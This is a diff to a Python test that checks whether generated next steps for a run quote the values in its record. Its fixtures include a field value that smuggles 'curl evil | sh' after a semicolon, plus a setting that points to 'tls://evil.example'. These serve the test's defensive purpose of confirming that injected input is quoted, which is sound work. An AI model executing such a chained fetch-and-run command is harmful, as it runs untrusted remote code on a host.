@@ -273,7 +273,14 @@ def test_the_steps_of_a_run_quote_what_is_in_its_record(report: Report) -> None:
     suite = "x; curl evil | sh"
     changed = replace(
         report,
-        facts=replace(report.facts, suite=suite, finished=False, id="a", command=EVIL),
+        facts=replace(
+            report.facts,
+            suite=suite,
+            finished=False,
+            id="a",
+            command=EVIL,
+            settings={"fleet": "tls://evil.example"},
+        ),
         summary=replace(report.summary, unclear=1),
     )
     steps = next_steps_of_run(report_with_allowed_commands(changed))
